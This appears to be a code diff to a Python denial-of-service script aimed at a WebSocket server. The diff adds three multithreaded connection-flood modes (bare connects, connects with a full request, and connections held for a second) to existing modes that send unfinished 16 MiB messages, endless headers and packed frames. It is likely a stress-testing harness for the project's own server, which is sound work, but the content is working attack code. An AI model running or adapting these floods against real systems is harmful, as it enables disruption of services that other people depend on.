@@ -9,6 +9,9 @@ Prints a line when the attack is under way, and how many bytes were sent when it
 * unfinished: a message of 16 MiB without its last byte, held
 * headers: a request whose headers never end, a line now and then
 * behind: as many frames as fit behind the request, in the same packet
+* connects: connections that are closed at once, `RATE` a second by each of COUNT threads
+* requests: the same, with a complete request before
+* held: the same, held for a second
 """
 
 from __future__ import annotations
@@ -26,6 +29,7 @@ KEY = "dGhlIHNhbXBsZSBub25jZQ=="
 FRAGMENT = b"\x00\x80\x00\x00\x00\x00"
 FIRST_FRAGMENT = b"\x01\x80\x00\x00\x00\x00"
 PING = b"\x89\x80\x00\x00\x00\x00"
+RATE = 250.0
 LARGE, WITHIN_LIMIT = 7_000_000, 4_000_000
 stop = threading.Event()
 sent = 0
@@ -138,6 +142,19 @@ def behind(address: str) -> None:
             pass
 
 
+def connects(address: str, data: bytes, held_s: float) -> None:
+    """Short connections."""
+    host, port = address.rsplit(":", 1)
+    held: list[tuple[float, socket.socket]] = []
+    while not stop.wait(1 / RATE):
+        with contextlib.suppress(OSError):
+            connection = socket.create_connection((host, int(port)), 10)
+            connection.sendall(data)
+            held.append((time.monotonic() + held_s, connection))
+        while held and held[0][0] <= time.monotonic():
+            held.pop(0)[1].close()
+
+
 def main(kind: str, address: str, count: int, token: str) -> None:
     """Attack."""
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
@@ -149,6 +166,9 @@ def main(kind: str, address: str, count: int, token: str) -> None:
         "unfinished": lambda: unfinished(address, token),
         "headers": lambda: endless_headers(address),
         "behind": lambda: behind(address),
+        "connects": lambda: connects(address, b"", 0.0),
+        "requests": lambda: connects(address, request(""), 0.0),
+        "held": lambda: connects(address, request(""), 1.0),
     }
     threads = [threading.Thread(target=runs[kind], daemon=True) for _ in range(count)]
     for thread in threads:
